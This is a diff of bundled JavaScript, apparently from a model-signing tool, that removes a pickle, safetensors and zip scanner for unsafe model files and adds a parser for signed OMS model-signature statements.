-      if (l === void 0) throw new Malformed(`${what} argument longer than ${MAX_LINE} bytes`);
-      return l;
-    };
-    const memoPut = (i, v2) => {
-      if (!memo.has(i) && memo.size >= limits.maxMemo) throw new LimitHit(`more than ${limits.maxMemo} memo entries`);
-      memo.set(i, v2);
-    };
-    const memoGet = (i) => {
-      const v2 = memo.get(i);
-      if (v2 === void 0) throw new Malformed(`memo key ${i} was never stored`);
-      push(v2);
-    };
-    const call = (f2, use) => {
-      used(f2, use);
-      push(f2.k === "global" || f2.k === "obj" ? { k: "obj", g: f2.g } : OTHER);
-    };
-    const importGlobal = async (via) => {
-      const m2 = await src.line(1024);
-      const n = m2 === void 0 ? void 0 : await src.line(1024);
-      if (m2 === void 0 || n === void 0) throw new Malformed(`${via} name longer than 1024 bytes`);
-      if (!isUtf82(m2) || !isUtf82(n)) throw new Malformed(`${via} name is not valid UTF-8`);
-      const g2 = globalOf(m2.toString("utf8"), n.toString("utf8"));
-      record(g2, via);
-      return g2;
-    };
-    for (; ; ) {
-      if (++opcodes > limits.maxOpcodes) throw new LimitHit(`more than ${limits.maxOpcodes} opcodes`);
-      if (src.buffered < 16) await src.ensure(16);
-      if (src.buffered < 1) throw new Malformed("pickle ends without STOP");
-      const at2 = src.pos;
-      const op = src.u8();
-      switch (op) {
-        case 40:
-          marks.push(stack.length);
-          break;
-        case 46:
-          pop();
-          return;
-        case 48:
-          if (marks.length > 0 && stack.length === marks[marks.length - 1]) marks.pop();
-          else pop();
-          break;
-        case 49:
-          popMark();
-          break;
-        case 50:
-          push(top());
-          break;
-        case 70:
-        case 73:
-        case 76:
-          await line(NAMES[op]);
-          push(OTHER);
-          break;
-        case 74:
-          fixed(4);
-          push(OTHER);
-          break;
-        // BININT
-        case 75:
-          fixed(1);
-          push(OTHER);
-          break;
-        // BININT1
-        case 77:
-          fixed(2);
-          push(OTHER);
-          break;
-        // BININT2
-        case 71:
-          fixed(8);
-          push(OTHER);
-          break;
-        // BINFLOAT
-        case 78:
-        case 136:
-        case 137:
-          push(OTHER);
-          break;
-        // NONE NEWTRUE NEWFALSE
-        case 80:
-          await line("PERSID");
-          push(OTHER);
-          break;
-        case 81:
-          pop();
-          push(OTHER);
-          break;
-        case 82: {
-          pop();
-          call(pop(), "REDUCE");
-          break;
-        }
-        case 83: {
-          const l = await line("STRING");
-          const s3 = decodeQuoted(l);
-          if (s3 === void 0) throw new Malformed("STRING argument is not a quoted string");
-          push(str3(Buffer.from(s3, "latin1"), "latin1"));
-          break;
-        }
-        case 84: {
-          const n = fixed(4).readInt32LE(0);
-          if (n < 0) throw new Malformed("negative BINSTRING length");
-          push(await lenStr(n, "latin1"));
-          break;
-        }
-        case 85:
-          push(await lenStr(fixed(1)[0], "latin1"));
-          break;
-        // SHORT_BINSTRING
-        case 86: {
-          const s3 = decodeRawUnicode(await line("UNICODE"));
-          if (s3 === void 0) throw new Malformed("bad UNICODE escape");
-          push(s3.length > MAX_KEPT_STRING ? LONGSTR : { k: "str", s: s3 });
-          break;
-        }
-        case 88:
-          push(await lenStr(fixed(4).readUInt32LE(0), "utf8"));
-          break;
-        // BINUNICODE
-        case 140:
-          push(await lenStr(fixed(1)[0], "utf8"));
-          break;
-        // SHORT_BINUNICODE
-        case 141:
-          push(await lenStr(size8(fixed(8)), "utf8"));
-          break;
-        // BINUNICODE8
-        case 66:
-          push(await skipBytes(fixed(4).readUInt32LE(0)));
-          break;
-        // BINBYTES
-        case 67:
-          push(await skipBytes(fixed(1)[0]));
-          break;
-        // SHORT_BINBYTES
-        case 142:
-        case 150:
-          push(await skipBytes(size8(fixed(8))));
-          break;
-        // BINBYTES8 BYTEARRAY8
-        case 138: {
-          const n = fixed(1)[0];
-          if (src.buffered < n) await src.ensure(n);
-          const v2 = fixed(n);
-          if (pickles === 0 && n === TORCH_MAGIC.length && v2.equals(TORCH_MAGIC)) legacyTorch = true;
-          push(OTHER);
-          break;
-        }
-        case 139: {
-          const n = fixed(4).readInt32LE(0);
-          if (n < 0) throw new Malformed("negative LONG4 length");
-          await src.skip(n);
-          push(OTHER);
-          break;
-        }
-        case 97:
-          pop();
-          top();
-          break;
-        // APPEND
-        case 98: {
-          pop();
-          used(top(), "BUILD");
-          break;
-        }
-        case 99: {
-          push({ k: "global", g: await importGlobal("GLOBAL") });
-          break;
-        }
-        case 105: {
-          const g2 = await importGlobal("INST");
-          popMark();
-          call({ k: "global", g: g2 }, "INST");
-          break;
-        }
-        case 111: {
-          const items = popMark();
-          if (items.length === 0) throw new Malformed("OBJ without a class");
-          call(items[0], "OBJ");
-          break;
-        }
-        case 129: {
-          pop();
-          call(pop(), "NEWOBJ");
-          break;
-        }
-        case 146: {
-          pop();
-          pop();
-          call(pop(), "NEWOBJ_EX");
-          break;
-        }
-        case 147: {
-          const name2 = pop();
-          const module = pop();
-          if (module.k !== "str" || name2.k !== "str") {
-            add("critical", "PICKLE_NONSTRING_GLOBAL", `STACK_GLOBAL with operands that are not plain strings (module: ${describe2(module)}, name: ${describe2(name2)}); a scanner cannot tell what it imports`, at2);
-            push(OTHER);
-            break;
-          }
-          const g2 = globalOf(module.s, name2.s);
-          record(g2, "STACK_GLOBAL");
-          push({ k: "global", g: g2 });
-          break;
-        }
-        case 100:
-        case 108:
-        case 116:
-        case 145:
-          popMark();
-          push(OTHER);
-          break;
-        case 101:
-        case 117:
-        case 144:
-          popMark();
-          top();
-          break;
-        case 125:
-        case 93:
-        case 41:
-        case 143:
-          push(OTHER);
-          break;
-        // EMPTY_DICT EMPTY_LIST EMPTY_TUPLE EMPTY_SET
-        case 115:
-          pop();
-          pop();
-          top();
-          break;
-        // SETITEM
-        case 133:
-          pop();
-          push(OTHER);
-          break;
-        // TUPLE1
-        case 134:
-          pop();
-          pop();
-          push(OTHER);
-          break;
-        // TUPLE2
-        case 135:
-          pop();
-          pop();
-          pop();
-          push(OTHER);
-          break;
-        // TUPLE3
-        case 103: {
-          const l = (await line("GET")).toString("latin1");
-          if (!/^-?\d{1,18}$/.test(l)) throw new Malformed("GET argument is not a number");
-          memoGet(Number(l));
-          break;
-        }
-        case 104:
-          memoGet(fixed(1)[0]);
-          break;
-        // BINGET
-        case 106:
-          memoGet(fixed(4).readUInt32LE(0));
-          break;
-        // LONG_BINGET
-        case 112: {
-          const l = (await line("PUT")).toString("latin1");
-          if (!/^\d{1,18}$/.test(l)) throw new Malformed("PUT argument is not a number");
-          memoPut(Number(l), top());
-          break;
-        }
-        case 113:
-          memoPut(fixed(1)[0], top());
-          break;
-        // BINPUT
-        case 114:
-          memoPut(fixed(4).readUInt32LE(0), top());
-          break;
-        // LONG_BINPUT
-        case 148:
-          memoPut(memo.size, top());
-          break;
-        // MEMOIZE
-        case 128: {
-          const p2 = fixed(1)[0];
-          if (p2 > 5) throw new Malformed(`unsupported pickle protocol ${p2}`);
-          break;
-        }
-        case 149:
-          fixed(8);
-          break;
-        // FRAME: the framed opcodes follow inline
-        case 130:
-        case 131:
-        case 132: {
-          const code = op === 130 ? fixed(1)[0] : op === 131 ? fixed(2).readUInt16LE(0) : fixed(4).readInt32LE(0);
-          add("high", "PICKLE_EXTENSION", `${NAMES[op]} imports extension-registry code ${code}, which names a global this scanner cannot see`, at2);
-          push(OTHER);
-          break;
-        }
-        case 151:
-          push(OTHER);
-          break;
-        // NEXT_BUFFER (out-of-band data)
-        case 152:
-          pop();
-          push(OTHER);
-          break;
-        // READONLY_BUFFER
-        default:
-          throw new Malformed(`unknown opcode 0x${op.toString(16).padStart(2, "0")}`);
-      }
-    }
-  };
-  try {
-    for (; ; ) {
-      await walkOne();
-      pickles++;
-      if (opts.multiple === false || legacyTorch && pickles >= LEGACY_TORCH_PICKLES) break;
-      if (!await src.ensure(2)) break;
-      const next = src.peek(2);
-      if (next[0] !== 128 || next[1] < 2 || next[1] > 5) break;
-      if (pickles >= limits.maxPicklesPerStream) {
-        add("high", "SCAN_LIMIT", `more than ${limits.maxPicklesPerStream} pickles in a row; the rest was not scanned`, src.pos);
-        break;
-      }
-    }
-  } catch (e) {
-    if (e instanceof Malformed) add("high", "PICKLE_MALFORMED", `not a valid pickle: ${e.message} (near offset ${src.pos})`, src.pos);
-    else if (e instanceof Truncated) add("high", "PICKLE_MALFORMED", `pickle is truncated: ${e.message}`, e.at);
-    else if (e instanceof LimitHit) add("high", "SCAN_LIMIT", `pickle too complex to scan: ${e.message}`, src.pos);
-    else throw e;
-  }
-  const list2 = [...imports.values()];
-  for (const imp of list2) {
-    if (imp.verdict === "allowed") continue;
-    const full = `${imp.module}.${imp.name}`;
-    const how = `via ${imp.via.join("/") || "memo"}${imp.usedBy.length ? `, used by ${imp.usedBy.join("/")}` : ""}`;
-    if (imp.verdict === "dangerous") {
-      const why2 = classifyGlobal(imp.module, imp.name).why ?? "dangerous";
-      add("critical", "PICKLE_DANGEROUS_GLOBAL", `imports ${full} (${why2}) ${how}; loading this file can run code`, void 0, full);
-    } else {
-      add("medium", "PICKLE_UNKNOWN_GLOBAL", `imports ${full}, which is not on the allow-list for weights (${how})`, void 0, full);
-    }
-  }
-  return { imports: list2, findings, pickles, opcodes };
-}
-var OTHER, BYTES, LONGSTR, NAMES, MAX_KEPT_STRING, MAX_LINE, TORCH_MAGIC, LEGACY_TORCH_PICKLES, Malformed, LimitHit;
-var init_pickle = __esm({
-  "src/scan/pickle.ts"() {
-    "use strict";
-    init_globals();
-    init_source2();
-    OTHER = { k: "other", what: "value" };
-    BYTES = { k: "other", what: "bytes" };
-    LONGSTR = { k: "other", what: "string too long to follow" };
-    NAMES = {
-      40: "MARK",
-      46: "STOP",
-      48: "POP",
-      49: "POP_MARK",
-      50: "DUP",
-      70: "FLOAT",
-      73: "INT",
-      74: "BININT",
-      75: "BININT1",
-      76: "LONG",
-      77: "BININT2",
-      78: "NONE",
-      80: "PERSID",
-      81: "BINPERSID",
-      82: "REDUCE",
-      83: "STRING",
-      84: "BINSTRING",
-      85: "SHORT_BINSTRING",
-      86: "UNICODE",
-      88: "BINUNICODE",
-      97: "APPEND",
-      98: "BUILD",
-      99: "GLOBAL",
-      100: "DICT",
-      125: "EMPTY_DICT",
-      101: "APPENDS",
-      103: "GET",
-      104: "BINGET",
-      105: "INST",
-      106: "LONG_BINGET",
-      108: "LIST",
-      93: "EMPTY_LIST",
-      111: "OBJ",
-      112: "PUT",
-      113: "BINPUT",
-      114: "LONG_BINPUT",
-      115: "SETITEM",
-      116: "TUPLE",
-      41: "EMPTY_TUPLE",
-      117: "SETITEMS",
-      71: "BINFLOAT",
-      128: "PROTO",
-      129: "NEWOBJ",
-      130: "EXT1",
-      131: "EXT2",
-      132: "EXT4",
-      133: "TUPLE1",
-      134: "TUPLE2",
-      135: "TUPLE3",
-      136: "NEWTRUE",
-      137: "NEWFALSE",
-      138: "LONG1",
-      139: "LONG4",
-      66: "BINBYTES",
-      67: "SHORT_BINBYTES",
-      140: "SHORT_BINUNICODE",
-      141: "BINUNICODE8",
-      142: "BINBYTES8",
-      143: "EMPTY_SET",
-      144: "ADDITEMS",
-      145: "FROZENSET",
-      146: "NEWOBJ_EX",
-      147: "STACK_GLOBAL",
-      148: "MEMOIZE",
-      149: "FRAME",
-      150: "BYTEARRAY8",
-      151: "NEXT_BUFFER",
-      152: "READONLY_BUFFER"
-    };
-    MAX_KEPT_STRING = 1024;
-    MAX_LINE = 1 << 20;
-    TORCH_MAGIC = Buffer.from([108, 252, 156, 70, 249, 32, 106, 168, 80, 25]);
-    LEGACY_TORCH_PICKLES = 5;
-    Malformed = class extends Error {
-    };
-    LimitHit = class extends Error {
-    };
-  }
-});
-
-// src/scan/safetensors.ts
-async function checkSafetensors(src, size, file, limits, member) {
-  const findings = [];
-  const add = (code, message) => findings.push({ code, severity: "high", file, ...member !== void 0 ? { member } : {}, message });
-  if (size < 8) {
-    add("SAFETENSORS_TRUNCATED", `file is ${size} bytes, too short for the 8-byte header length`);
-    return findings;
-  }
-  const n = (await src.read(8)).readBigUInt64LE(0);
-  if (n > BigInt(limits.maxSafetensorsHeader)) {
-    add("SAFETENSORS_HEADER_LENGTH", `header length ${n} is larger than the ${limits.maxSafetensorsHeader}-byte limit`);
-    return findings;
-  }
-  const hlen = Number(n);
-  if (8 + hlen > size) {
-    add("SAFETENSORS_HEADER_LENGTH", `header length ${hlen} points past the end of the ${size}-byte file`);
-    return findings;
-  }
-  if (hlen < 2) {
-    add("SAFETENSORS_HEADER_LENGTH", `header length ${hlen} is too small for a JSON object`);
-    return findings;
-  }
-  const raw = await src.read(hlen);
+function parseStatement(payload) {
   let text;
   try {
-    text = utf82.decode(raw);
+    text = new TextDecoder("utf-8", { fatal: true }).decode(payload);
   } catch {
-    add("SAFETENSORS_HEADER_JSON", "header is not valid UTF-8");
-    return findings;
+    bad3("payload is not UTF-8");
   }
-  if (!text.startsWith("{")) {
-    add("SAFETENSORS_HEADER_JSON", 'header does not start with "{"');
-    return findings;
+  const st2 = parseStrictJson(text, { what: "signed statement", code: "STATEMENT_MALFORMED" });
+  if (!isObject(st2)) bad3("not a JSON object");
+  if (st2._type !== STATEMENT_TYPE) bad3(`_type is ${JSON.stringify(st2._type)}, expected ${STATEMENT_TYPE}`);
+  if (st2.predicateType === LEGACY_PREDICATE_TYPE) {
+    return readLegacyStatement(st2);
   }
-  let header;
-  try {
-    header = parseStrictJson(text, { what: "safetensors header", code: "SAFETENSORS_HEADER_JSON", maxDepth: 8 });
-  } catch (e) {
-    if (e instanceof ModelsignError) {
-      add(/duplicate key/.test(e.message) ? "SAFETENSORS_DUPLICATE_KEY" : "SAFETENSORS_HEADER_JSON", e.message);
-      return findings;
-    }
-    throw e;
+  if (st2.predicateType !== OMS_PREDICATE_TYPE) {
+    throw reject("UNSUPPORTED_FORMAT", `predicate type ${JSON.stringify(st2.predicateType)} is not an OMS v1.0 model signature`);
   }
-  if (!isObject(header)) {
-    add("SAFETENSORS_HEADER_JSON", "header is not a JSON object");
-    return findings;
-  }
-  const dataLen = size - 8 - hlen;
-  const spans = [];
-  for (const [name2, info2] of Object.entries(header)) {
-    const shown = JSON.stringify(name2.slice(0, 120));
-    if (name2 === "__metadata__") {
-      if (!isObject(info2)) add("SAFETENSORS_METADATA", "__metadata__ is not an object");
-      else for (const [k2, v2] of Object.entries(info2)) if (typeof v2 !== "string") add("SAFETENSORS_METADATA", `__metadata__ value ${JSON.stringify(k2.slice(0, 120))} is not a string`);
-      continue;
-    }
-    if (!isObject(info2)) {
-      add("SAFETENSORS_TENSOR", `tensor ${shown} is not an object`);
-      continue;
-    }
-    const extra = Object.keys(info2).filter((k2) => k2 !== "dtype" && k2 !== "shape" && k2 !== "data_offsets");
-    if (extra.length) add("SAFETENSORS_TENSOR", `tensor ${shown} has unexpected fields: ${extra.slice(0, 5).join(", ")}`);
-    const { dtype, shape, data_offsets: offs } = info2;
-    if (typeof dtype !== "string" || SAFETENSORS_DTYPE_BITS[dtype] === void 0) {
-      add("SAFETENSORS_DTYPE", `tensor ${shown} has unknown dtype ${JSON.stringify(dtype)}`);
-      continue;
-    }
-    if (!Array.isArray(shape) || !shape.every((d) => typeof d === "number" && Number.isSafeInteger(d) && d >= 0)) {
-      add("SAFETENSORS_TENSOR", `tensor ${shown} has a shape that is not a list of non-negative integers`);
-      continue;
-    }
-    if (!Array.isArray(offs) || offs.length !== 2 || !offs.every((d) => typeof d === "number" && Number.isSafeInteger(d) && d >= 0) || offs[1] < offs[0]) {
-      add("SAFETENSORS_OFFSETS", `tensor ${shown} has data_offsets that are not [begin, end] with begin <= end`);
-      continue;
-    }
-    const [begin, end] = offs;
-    const bits = shape.reduce((a, d) => a * BigInt(d), 1n) * BigInt(SAFETENSORS_DTYPE_BITS[dtype]);
-    if (bits % 8n !== 0n || bits / 8n !== BigInt(end - begin)) {
-      add("SAFETENSORS_SIZE", `tensor ${shown} is ${end - begin} bytes but shape [${shape.join(", ")}] x ${dtype} needs ${bits % 8n === 0n ? `${bits / 8n} bytes` : `${bits} bits (not whole bytes)`}`);
-    }
-    spans.push({ name: name2, begin, end });
-  }
-  spans.sort((a, b2) => a.begin - b2.begin || a.end - b2.end);
-  let pos = 0;
-  let prev;
-  for (const s3 of spans) {
-    const shown = JSON.stringify(s3.name.slice(0, 120));
-    if (s3.begin < pos) add("SAFETENSORS_OFFSETS", `tensor ${shown} [${s3.begin}, ${s3.end}) overlaps tensor ${JSON.stringify((prev ?? "").slice(0, 120))} (which ends at ${pos})`);
-    else if (s3.begin > pos) add("SAFETENSORS_OFFSETS", `${s3.begin - pos} bytes at data offset ${pos} belong to no tensor (gap before ${shown})`);
-    if (s3.end > pos) {
-      pos = s3.end;
-      prev = s3.name;
-    }
-  }
-  if (pos > dataLen) add("SAFETENSORS_TRUNCATED", `tensors need ${pos} data bytes but the file has ${dataLen}`);
-  else if (pos < dataLen) add("SAFETENSORS_TRAILING_BYTES", `${dataLen - pos} bytes after the last tensor (data ends at ${8 + hlen + pos}, file is ${size} bytes)`);
-  return findings;
+  const subjects = st2.subject;
+  if (!Array.isArray(subjects) || subjects.length !== 1) bad3("exactly one subject is required");
+  const subject = subjects[0];
+  if (!isObject(subject)) bad3("subject must be an object");
+  const name2 = str(subject.name, "subject.name");
+  if (!isObject(subject.digest)) bad3("subject.digest must be an object");
+  const root = subject.digest.sha256;
+  if (typeof root !== "string" || !/^[0-9a-f]{64}$/.test(root)) bad3("subject.digest.sha256 must be 64 lowercase hex characters");
+  const pred = st2.predicate;
+  if (!isObject(pred)) bad3("predicate must be an object");
+  const serialization = parseSerialization(pred.serialization);
+  const resources = parseResources(pred.resources, serialization.hash_type);
+  return { format: "oms-v1.0", subjectName: name2, rootDigest: root, serialization, resources, metadata: parseMetadata(subject), raw: st2 };
 }
-var SAFETENSORS_DTYPE_BITS, utf82;
-var init_safetensors = __esm({
-  "src/scan/safetensors.ts"() {
+var STATEMENT_TYPE, OMS_PREDICATE_TYPE, HEX, MAX_RESOURCES;
+var init_statement = __esm({
+  "src/oms/statement.ts"() {
     "use strict";
     init_errors();
+    init_algorithms2();
     init_strict_json();
-    SAFETENSORS_DTYPE_BITS = {
-      BOOL: 8,
-      U8: 8,
-      I8: 8,
-      F8_E5M2: 8,
-      F8_E4M3: 8,
-      F8_E8M0: 8,
-      I16: 16,
-      U16: 16,
-      F16: 16,
-      BF16: 16,
-      I32: 32,
-      U32: 32,
-      F32: 32,
-      I64: 64,
-      U64: 64,
-      F64: 64,
-      C64: 64,
-      F4: 4,
-      F6_E2M3: 6,
-      F6_E3M2: 6
-    };
-    utf82 = new TextDecoder("utf-8", { fatal: true });
+    init_legacy();
+    STATEMENT_TYPE = "https://in-toto.io/Statement/v1";
+    OMS_PREDICATE_TYPE = "https://model_signing/signature/v1.0";
+    HEX = /^[0-9a-f]+$/;
+    MAX_RESOURCES = 1e6;
   }
 });
 
-// src/scan/zip.ts
-import { open as open3 } from "node:fs/promises";
-import { createInflateRaw } from "node:zlib";
-import { Readable } from "node:stream";
-async function readAt(fh, pos, len) {
-  const b2 = Buffer.alloc(len);
-  const { bytesRead } = await fh.read(b2, 0, len, pos);
-  if (bytesRead !== len) throw new ZipError(`unexpected end of file at offset ${pos + bytesRead}`);
-  return b2;
+// src/hashing/model-path.ts
+import { stat as stat5 } from "node:fs/promises";
+function modelPathError(model, e, what = "model") {
+  const c = errnoCode(e);
+  const missing = c === "ENOENT" || c === "ENOTDIR";
+  return usage("MODEL_NOT_FOUND", missing ? `model not found: ${model}` : `cannot read ${what} ${model}: ${c ?? String(e)}`);
 }
-function big(b2, at2) {
-  const v2 = b2.readBigUInt64LE(at2);
-  if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new ZipError("zip64 field is impossibly large");
-  return Number(v2);
-}
-async function readZipDirectory(file, size, limits) {
-  const fh = await open3(file, "r");
+async function statModel(model) {
   try {
-    const problems = [];
-    const tailLen = Math.min(size, 22 + 65535);
-    const tail = await readAt(fh, size - tailLen, tailLen);
-    let at2 = -1;
-    for (let i = tail.length - 22; i >= 0; i--) {
-      if (tail.readUInt32LE(i) === EOCD && i + 22 + tail.readUInt16LE(i + 20) === tail.length) {
-        at2 = i;
-        break;
-      }
-    }
-    if (at2 < 0) throw new ZipError("no end-of-central-directory record");
-    const eocdPos = size - tailLen + at2;
-    let count = tail.readUInt16LE(at2 + 10);
-    let cdSize = tail.readUInt32LE(at2 + 12);
-    let cdOffset = tail.readUInt32LE(at2 + 16);
-    if (count === 65535 || cdSize === 4294967295 || cdOffset === 4294967295) {
-      if (eocdPos < 20) throw new ZipError("zip64 locator missing");
-      const loc = await readAt(fh, eocdPos - 20, 20);
-      if (loc.readUInt32LE(0) !== ZIP64_LOCATOR) throw new ZipError("zip64 locator missing");
-      const recPos = big(loc, 8);
-      if (recPos + 56 > eocdPos) throw new ZipError("zip64 end record out of range");
-      const rec = await readAt(fh, recPos, 56);
-      if (rec.readUInt32LE(0) !== ZIP64_EOCD) throw new ZipError("bad zip64 end record");
-      count = big(rec, 32);
-      cdSize = big(rec, 40);
-      cdOffset = big(rec, 48);
-    }
-    if (count > limits.maxZipEntries) throw new ZipError(`${count} entries, more than the limit of ${limits.maxZipEntries}`);
-    if (cdSize > limits.maxZipDirectory) throw new ZipError(`central directory of ${cdSize} bytes exceeds the limit`);
-    if (cdOffset + cdSize > eocdPos) throw new ZipError("central directory lies outside the file");
-    const cd = await readAt(fh, cdOffset, cdSize);
-    const entries = [];
-    const seen = /* @__PURE__ */ new Set();
-    let p2 = 0;
-    for (let i = 0; i < count; i++) {
-      if (p2 + 46 > cd.length || cd.readUInt32LE(p2) !== CDH) throw new ZipError(`central directory entry ${i} is malformed`);
-      const flags = cd.readUInt16LE(p2 + 8);
-      const method = cd.readUInt16LE(p2 + 10);
-      let compressedSize = cd.readUInt32LE(p2 + 20);
-      let usize = cd.readUInt32LE(p2 + 24);
-      const nameLen = cd.readUInt16LE(p2 + 28);
-      const extraLen = cd.readUInt16LE(p2 + 30);
-      const commentLen = cd.readUInt16LE(p2 + 32);
-      let localOffset = cd.readUInt32LE(p2 + 42);
-      const end = p2 + 46 + nameLen + extraLen + commentLen;
-      if (end > cd.length) throw new ZipError(`central directory entry ${i} runs past the directory`);
-      const name2 = cd.subarray(p2 + 46, p2 + 46 + nameLen).toString(flags & 2048 ? "utf8" : "latin1");
-      let x = p2 + 46 + nameLen;
-      const xEnd = x + extraLen;
-      while (x + 4 <= xEnd) {
-        const id2 = cd.readUInt16LE(x);
-        const len = cd.readUInt16LE(x + 2);
-        if (x + 4 + len > xEnd) break;
-        if (id2 === 1) {
-          let q2 = x + 4;
-          const take = () => {
-            if (q2 + 8 > x + 4 + len) throw new ZipError(`zip64 extra field of ${JSON.stringify(name2)} is short`);
-            const v2 = big(cd, q2);
-            q2 += 8;
-            return v2;
-          };
-          if (usize === 4294967295) usize = take();
-          if (compressedSize === 4294967295) compressedSize = take();
-          if (localOffset === 4294967295) localOffset = take();
-        }
-        x += 4 + len;
-      }
-      p2 = end;
-      if (seen.has(name2)) problems.push(`duplicate entry name ${JSON.stringify(name2)} (readers disagree on which one counts)`);
-      seen.add(name2);
-      if (localOffset + 30 > cdOffset) throw new ZipError(`entry ${JSON.stringify(name2)} starts outside the data area`);
-      const lh = await readAt(fh, localOffset, 30);
-      if (lh.readUInt32LE(0) !== LFH) throw new ZipError(`entry ${JSON.stringify(name2)} has no local header`);
-      const lNameLen = lh.readUInt16LE(26);
-      const lExtraLen = lh.readUInt16LE(28);
-      const lName = (await readAt(fh, localOffset + 30, lNameLen)).toString(flags & 2048 ? "utf8" : "latin1");
-      if (lName !== name2) problems.push(`entry ${JSON.stringify(name2)} is named ${JSON.stringify(lName)} in its local header`);
-      const dataOffset = localOffset + 30 + lNameLen + lExtraLen;
-      if (dataOffset + compressedSize > cdOffset) throw new ZipError(`entry ${JSON.stringify(name2)} runs past the data area`);
-      entries.push({ name: name2, method, compressedSize, size: usize, localOffset, dataOffset, encrypted: (flags & 1) === 1 });
-    }
-    if (p2 !== cd.length) problems.push(`${cd.length - p2} unexplained bytes in the central directory`);
-    return { entries, problems };
-  } finally {
-    await fh.close();
-  }
-}
-function openZipMember(file, e, limits) {
-  if (e.size > limits.maxMemberBytes) throw new ZipError(`member declares ${e.size} bytes, more than the limit of ${limits.maxMemberBytes}`);
-  if (e.method === 0 && e.compressedSize !== e.size) throw new ZipError("stored member has different compressed and uncompressed sizes");
-  if (e.method === 0) return { src: ByteSource.fromFile(file, e.dataOffset, e.dataOffset + e.compressedSize), problems: [] };
-  if (e.method !== 8) throw new ZipError(`member uses compression method ${e.method}, which is not supported`);
-  if (e.size > Math.max(1 << 20, e.compressedSize * limits.maxRatio)) throw new ZipError(`member expands ${e.compressedSize} bytes to ${e.size}: compression ratio over ${limits.maxRatio}`);
-  const raw = ByteSource.fromFile(file, e.dataOffset, e.dataOffset + e.compressedSize);
-  const declared = e.size;
-  const problems = [];
-  async function* inflate() {
-    const z2 = createInflateRaw();
-    const input = Readable.from(
-      (async function* () {
-        for (; ; ) {
-          if (!await raw.ensure(1)) return;
-          yield Buffer.from(raw.take(raw.buffered));
-        }
-      })()
-    );
-    input.pipe(z2);
-    let out2 = 0;
-    try {
-      for await (const chunk of z2) {
-        if (out2 + chunk.length > declared) {
-          problems.push(`member inflates to more than its declared ${declared} bytes`);
-          if (declared > out2) yield chunk.subarray(0, declared - out2);
-          return;
-        }
-        out2 += chunk.length;
-        yield chunk;
-      }
-    } catch (err) {
-      problems.push(`member's compressed data is corrupt: ${err.message}`);
-      return;
-    } finally {
-      input.destroy();
-      z2.destroy();
-      await raw.close();
-    }
-    if (out2 !== declared) problems.push(`member inflates to ${out2} bytes, not the declared ${declared}`);
-  }
-  return { src: ByteSource.fromIterable(inflate(), declared), problems };
-}
-var ZipError, EOCD, ZIP64_LOCATOR, ZIP64_EOCD, CDH, LFH;
-var init_zip = __esm({
-  "src/scan/zip.ts"() {
-    "use strict";
-    init_source2();
-    ZipError = class extends Error {
-    };
-    EOCD = 101010256;
-    ZIP64_LOCATOR = 117853008;
-    ZIP64_EOCD = 101075792;
-    CDH = 33639248;
-    LFH = 67324752;
-  }
-});
-
-// src/scan/scan-file.ts
-import { stat as stat4 } from "node:fs/promises";
-async function scanStream(src, kind, size, file, limits, member) {
-  const where = member !== void 0 ? { member } : {};
-  switch (kind) {
-    case "pickle": {
-      const r = await walkPickles(src, { file, limits, ...where });
-      return { format: "pickle", pickle: true, imports: r.imports, findings: r.findings };
-    }
-    case "npy": {
-      const h = await readNpyHeader(src);
-      if (!h.ok) return { format: "npy", pickle: false, imports: [], findings: [{ code: "NPY_MALFORMED", severity: "high", file, ...where, message: `not a valid .npy file: ${h.problem}` }] };
-      if (!h.objectDtype) return { format: "npy", pickle: false, imports: [], findings: [] };
-      const r = await walkPickles(src, { file, limits, multiple: false, ...where });
-      return { format: "npy", pickle: true, imports: r.imports, findings: r.findings };
-    }
-    case "safetensors":
-      return { format: "safetensors", pickle: false, imports: [], findings: await checkSafetensors(src, size, file, limits, member) };
-    case "gguf":
-      return { format: "gguf", pickle: false, imports: [], findings: await checkGguf(src, size, file, limits, member) };
-    default:
-      return { format: "unknown", pickle: false, imports: [], findings: [] };
-  }
-}
-async function scanZip(abs, size, file, limits) {
-  const findings = [];
-  const imports = [];
-  let pickle = false;
-  let dir;
-  try {
-    dir = await readZipDirectory(abs, size, limits);
+    return await stat5(model);
   } catch (e) {
-    if (!(e instanceof ZipError)) throw e;
-    findings.push({ code: "ZIP_MALFORMED", severity: "high", file, message: `zip container cannot be read safely: ${e.message}` });
-    return { format: "zip", pickle: false, imports, findings };
-  }
-  for (const p2 of dir.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, message: p2 });
-  const names = dir.entries.map((e) => e.name);
-  const format = names.some((n) => n === "data.pkl" || n.endsWith("/data.pkl")) ? "pytorch" : names.length > 0 && names.every((n) => n.endsWith(".npy")) ? "npz" : "zip";
-  for (const e of dir.entries) {
-    if (e.name.endsWith("/") || !memberWorthScanning(e.name)) continue;
-    const member = e.name;
-    if (e.encrypted) {
-      findings.push({ code: "ZIP_ENCRYPTED", severity: "high", file, member, message: "member is encrypted and cannot be scanned" });
-      continue;
-    }
-    let src;
-    try {
-      const opened = openZipMember(abs, e, limits);
-      src = opened.src;
-      await src.ensure(SNIFF_BYTES);
-      const kind = sniff(src.peek(SNIFF_BYTES), member);
-      if (kind === "zip") {
-        for (const p2 of opened.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: p2 });
-        findings.push({ code: "ZIP_NESTED", severity: "medium", file, member, message: "member is itself a zip archive; nested archives are not scanned" });
-        continue;
-      }
-      const r = await scanStream(src, kind, e.size, file, limits, member);
-      pickle ||= r.pickle;
-      for (const x of r.imports) imports.push(x);
-      for (const x of r.findings) findings.push(x);
-      await src.drain();
-      for (const p2 of opened.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: p2 });
-    } catch (err) {
-      if (!(err instanceof ZipError)) throw err;
-      findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: err.message });
-    } finally {
-      await src?.close();
-    }
-  }
-  return { format, pickle, imports, findings };
-}
-function report(file, size, r) {
-  const findings = [...r.findings];
-  if (r.format === "unknown" && OPAQUE_ARCHIVE.test(file)) {
-    findings.push({ code: "SCAN_SKIPPED", severity: "medium", file, message: "compressed or archive format that modelsign cannot look inside; not scanned (use .tar, .tar.gz or zip)" });
-  }
-  return { file, size, format: r.format, pickle: r.pickle, imports: r.imports, findings };
-}
-async function scanFile(abs, file, limits) {
-  const size = (await stat4(abs)).size;
-  const src = ByteSource.fromFile(abs);
-  try {
-    await src.ensure(SNIFF_BYTES);
-    const kind = sniff(src.peek(SNIFF_BYTES), file);
